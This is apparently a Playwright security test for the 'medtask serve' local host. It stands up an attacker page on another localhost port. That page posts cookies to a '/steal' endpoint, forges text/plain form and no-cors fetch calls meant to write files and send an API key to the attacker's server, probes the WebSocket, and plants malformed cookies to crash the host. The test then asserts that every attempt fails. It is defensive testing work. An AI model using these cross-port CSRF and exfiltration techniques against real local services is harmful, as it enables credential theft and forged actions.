/**
 * A malicious page on another local port, in real Chromium, against the real `medtask serve`.
 * Cookies are shared by every port of 127.0.0.1 and such a page counts as same-site, so it tries
 * what issue 12 observed: reading the token from cookies, forging calls by form POST and `no-cors`
 * fetch (exportRun writing a file, createRun sending an API key to the attacker's "server"), the
 * events WebSocket, and planting `%` cookies that used to crash the host. Nothing may take effect,
 * the host must live, and the user's tab must keep working.
 */
import fs from 'node:fs';
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import os from 'node:os';
import path from 'node:path';
import { expect, test } from '@playwright/test';
import { medtask, serve, tempHome, type Served } from './fixtures';

const SECRET_ENV = 'MEDTASK_E2E_ATTACK_API_KEY';
const SECRET = `sk-secret-${Date.now()}`;

let served: Served;
let home: string;
let outside: string;
let runId: number;
let taskId: number;

interface Seen {
  method: string;
  url: string;
  cookie: string;
  authorization: string;
  body: string;
}
const seen: Seen[] = [];
const reports: Record<string, unknown>[] = [];
let attacker: http.Server;
let attackerOrigin: string;

function attackPage(host: string): string {
  const cfg = {
    host,
    ws: host.replace(/^http/, 'ws') + '/api/events',
    runId,
    taskId,
    outs: [path.join(home, 'exports', 'pwned-nocors.json'), path.join(outside, 'pwned-nocors.json')],
    formOut: path.join(home, 'exports', 'pwned-form.json'),
    attackerOrigin,
    secretEnv: SECRET_ENV,
  };
  const createRun = {
    name: 'pwned',
    model: { kind: 'remote', baseUrl: `${attackerOrigin}/v1`, model: 'x', apiKeyEnv: SECRET_ENV },
    template: { strategy: 'generic' },
    decoding: { maxTokens: 4, temperature: 0 },
    selection: { taskIds: [taskId], limit: 2 },
  };
  // text/plain forms send `name=value`: the name holds the JSON, the value closes it.
  const formJson = (o: Record<string, unknown>) => JSON.stringify({ ...o, x: '' }).slice(0, -2);
  const exportForm = formJson({ runId, format: 'items-json', out: cfg.formOut });
  const createForm = formJson(createRun);
  return `<!doctype html><html lang="en"><title>cat pictures</title>
<iframe name="f1" title="f1"></iframe><iframe name="f2" title="f2"></iframe>
<form id="exportForm" method="POST" action="${host}/api/call/exportRun" enctype="text/plain" target="f1"><input name='${exportForm}' value='"}'></form>
<form id="createForm" method="POST" action="${host}/api/call/createRun" enctype="text/plain" target="f2"><input name='${createForm}' value='"}'></form>
<script>
const T = ${JSON.stringify(cfg)};
const createRun = ${JSON.stringify(createRun)};
const results = {};
async function attempt(name, fn) {
  try { results[name] = await fn(); } catch (e) { results[name] = 'refused: ' + (e && e.name); }
}
(async () => {
  results.documentCookie = document.cookie;
  // The browser sends the cookies of 127.0.0.1 to any port: whatever it holds, the attacker's server sees.
  await fetch('/steal', { method: 'POST', credentials: 'include', body: document.cookie });
  for (const [i, out] of T.outs.entries()) {
    await attempt('noCorsExport' + i, async () => (await fetch(T.host + '/api/call/exportRun', {
      method: 'POST', mode: 'no-cors', credentials: 'include', headers: { 'content-type': 'text/plain' },
      body: JSON.stringify({ runId: T.runId, format: 'items-json', out }),
    })).type);
  }
  await attempt('noCorsCreateRun', async () => (await fetch(T.host + '/api/call/createRun', {
    method: 'POST', mode: 'no-cors', credentials: 'include', body: JSON.stringify(createRun),
  })).type);
  await attempt('noCorsWithJsonType', async () => (await fetch(T.host + '/api/call/createRun', {
    method: 'POST', mode: 'no-cors', credentials: 'include', headers: { 'content-type': 'application/json' }, body: JSON.stringify(createRun),
  })).type);
  await attempt('corsJson', async () => (await fetch(T.host + '/api/call/listRuns', {
    method: 'POST', credentials: 'include', headers: { 'content-type': 'application/json' }, body: '{}',
  })).status);
  await attempt('corsReadShell', async () => (await fetch(T.host + '/', { credentials: 'include' })).status);
  await attempt('websocket', () => new Promise((resolve) => {
    const ws = new WebSocket(T.ws, ['medtask.v1']);
    ws.onopen = () => resolve('open');
    ws.onerror = () => resolve('refused');
    setTimeout(() => resolve('timeout'), 5000);
  }));
  await attempt('websocketGuessedToken', () => new Promise((resolve) => {
    const ws = new WebSocket(T.ws, ['medtask.v1', 'medtask.token.guess']);
    ws.onopen = () => resolve('open');
    ws.onerror = () => resolve('refused');
    setTimeout(() => resolve('timeout'), 5000);
  }));
  document.getElementById('exportForm').submit();
  document.getElementById('createForm').submit();
  await new Promise((r) => setTimeout(r, 1500));
  // Plant cookies that used to crash the host's cookie parser, on every path the app uses.
  document.cookie = '%=%; path=/';
  document.cookie = 'medtask_token=%; path=/';
  document.cookie = 'medtask_shell=%; path=/';
  document.cookie = 'medtask_shell=%E0%A4%A; path=/assets';
  document.cookie = 'medtask_shell=%; path=/api';
  results.cookieAfterPlant = document.cookie;
  await fetch('/report', { method: 'POST', body: JSON.stringify(results) });
})();
</script></html>`;
}

test.beforeAll(async () => {
  home = tempHome();
  outside = fs.mkdtempSync(path.join(os.tmpdir(), 'medtask-outside-'));
  fs.mkdirSync(path.join(home, 'exports'), { recursive: true });
  await medtask(home, 'demo');
  taskId = (JSON.parse((await medtask(home, 'tasks', '--json')).stdout) as { id: number }[])[0]!.id;
  const predictions = path.join(outside, 'predictions.json');
  fs.writeFileSync(
    predictions,
    JSON.stringify({
      MCQA: {
        task901_demo_mcqa: {
          generated: [
            { prediction: 'A', target: 'A' },
            { prediction: 'B', target: 'A' },
          ],
        },
      },
    }),
  );
  runId = (JSON.parse((await medtask(home, 'import-predictions', predictions, '--json')).stdout) as { id: number }).id;
  // The host inherits this: a forged createRun naming it would send it to the attacker.
  process.env[SECRET_ENV] = SECRET;
  served = await serve(home);

  attacker = http.createServer((req, res) => {
    let body = '';
    req.on('data', (c: Buffer) => (body += c.toString()));
    req.on('end', () => {
      seen.push({ method: req.method ?? '', url: req.url ?? '', cookie: req.headers.cookie ?? '', authorization: req.headers.authorization ?? '', body });
      if (req.url === '/report') reports.push(JSON.parse(body) as Record<string, unknown>);
      if (req.url === '/') {
        res.writeHead(200, { 'content-type': 'text/html; charset=utf-8' }).end(attackPage(served.origin));
      } else if (req.url === '/plant') {
        // Cookies set by a response (not script) may even be HttpOnly and replace the host's own.
        res.setHeader('set-cookie', ['medtask_shell=%; Path=/; HttpOnly', 'medtask_token=%; Path=/', '%25=%; Path=/']);
        res.writeHead(200, { 'content-type': 'text/html' }).end('<!doctype html><title>planted</title>');
      } else {
        res.writeHead(200, { 'content-type': 'application/json' }).end('{}');
      }
    });
  });
  await new Promise<void>((r) => attacker.listen(0, '127.0.0.1', () => r()));
  attackerOrigin = `http://127.0.0.1:${(attacker.address() as AddressInfo).port}`;
});

test.afterAll(async () => {
  await served?.stop();
  await new Promise<void>((r) => (attacker ? attacker.close(() => r()) : r()));
  delete process.env[SECRET_ENV];
});

async function api(
  name: string,
  input: unknown,
  headers: Record<string, string> = { authorization: `Bearer ${served.token}` },
): Promise<{ status: number; body: { ok: boolean; value?: unknown } }> {
  const res = await fetch(`${served.origin}/api/call/${name}`, {
    method: 'POST',
    headers: { 'content-type': 'application/json', ...headers },
    body: JSON.stringify(input),
  });
  return { status: res.status, body: (await res.json()) as { ok: boolean; value?: unknown } };
}

test('a page on another local port can neither steal the token, forge calls, nor crash the host', async ({ context }, info) => {
  // The user has the app open: the host's cookie is in the jar, as it would be.
  const app = await context.newPage();
  await app.goto(served.url);
  await expect(app.getByTestId('benchmark-row').first()).toBeVisible();
  const runsBefore = (await api('listRuns', {})).body.value as unknown[];

  const evil = await context.newPage();
  await evil.goto(attackerOrigin + '/');
  await expect.poll(() => reports.length, { timeout: 30_000 }).toBe(1);
  const r = reports[0]!;
  console.log(`attacker page results: ${JSON.stringify(r)}`);

  // Token theft: the cookies a neighbour port receives do not hold the API token, and none of them opens the API.
  const steal = seen.find((s) => s.url === '/steal')!;
  expect(steal.cookie).toContain('medtask_shell=');
  expect(steal.cookie).not.toContain(served.token);
  expect(String(r.documentCookie)).not.toContain(served.token);
  for (const pair of steal.cookie.split(';')) {
    const value = pair.split('=').slice(1).join('=').trim();
    expect((await api('listRuns', {}, { authorization: `Bearer ${value}` })).status).toBe(401);
    expect((await api('listRuns', {}, { cookie: steal.cookie })).status).toBe(401);
  }

  // Forged calls: opaque answers at best, refused preflights and sockets, and no effect at all.
  expect(r.corsJson).toMatch(/^refused/);
  expect(r.corsReadShell).toMatch(/^refused/);
  expect(r.websocket).toBe('refused');
  expect(r.websocketGuessedToken).toBe('refused');
  for (const out of [path.join(home, 'exports', 'pwned-nocors.json'), path.join(outside, 'pwned-nocors.json'), path.join(home, 'exports', 'pwned-form.json')]) {
    expect(fs.existsSync(out), out).toBe(false);
  }
  expect(fs.readdirSync(path.join(home, 'exports'))).toEqual([]);
  expect((await api('listRuns', {})).body.value).toEqual(runsBefore);
  const toAttacker = seen.filter((s) => s.url.startsWith('/v1') || s.authorization || s.body.includes(SECRET));
  expect(toAttacker).toEqual([]);

  // The host lived through the planted cookies, and the user's tab still works after a reload.
  expect(served.child.exitCode).toBeNull();
  await app.reload();
  await expect(app.getByTestId('benchmark-row').first()).toBeVisible();
  await app.getByTestId('benchmark-row').first().click();
  await expect(app.getByTestId('task-row').first()).toBeVisible();

  // The probe could have seen an export: the same call sent as the app sends it writes the file.
  const control = path.join(home, 'exports', 'control.json');
  const own = await api('exportRun', { runId, format: 'items-json', out: control });
  expect(own.status, JSON.stringify(own.body)).toBe(200);
  expect(fs.existsSync(control)).toBe(true);
  fs.rmSync(control);

  await app.screenshot({ path: info.outputPath('app-after-attack.png'), fullPage: true });
  await info.attach('app after the attack', { path: info.outputPath('app-after-attack.png'), contentType: 'image/png' });
  console.log(`attacker page: ${seen.length} requests reached the attacker's server, none carried the token or the API key`);
});

test('cookies planted by a neighbour server do not crash the host; the printed URL opens the app again', async ({ context }) => {
  const evil = await context.newPage();
  await evil.goto(attackerOrigin + '/plant');
  const cookies = await context.cookies(served.origin);
  expect(cookies.find((c) => c.name === 'medtask_shell')?.value).toBe('%');
  const app = await context.newPage();
  // The host's shell cookie was replaced: a bare reload is refused (401, not a crash) ...
  const bare = await app.goto(served.origin + '/');
  expect(bare?.status()).toBe(401);
  expect(served.child.exitCode).toBeNull();
  // ... and the URL the host printed opens the app again.
  await app.goto(served.url);
  await expect(app.getByTestId('benchmark-row').first()).toBeVisible();
  expect((await api('listBenchmarks', {})).status).toBe(200);
});
